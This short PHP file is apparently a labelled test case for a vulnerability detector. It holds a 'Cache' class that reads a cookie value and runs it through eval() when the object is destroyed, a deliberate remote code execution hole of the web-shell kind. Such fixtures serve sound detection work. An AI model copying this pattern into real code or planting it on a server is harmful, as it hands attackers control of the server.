<?php
// A constructor stores the request; the destructor runs it.
// want: php_request_code_exec
class Cache {
    private $data;
    function __construct() { $this->data = $_COOKIE['cache']; }
    function __destruct() { @eval($this->data); }
}
$c = new Cache();
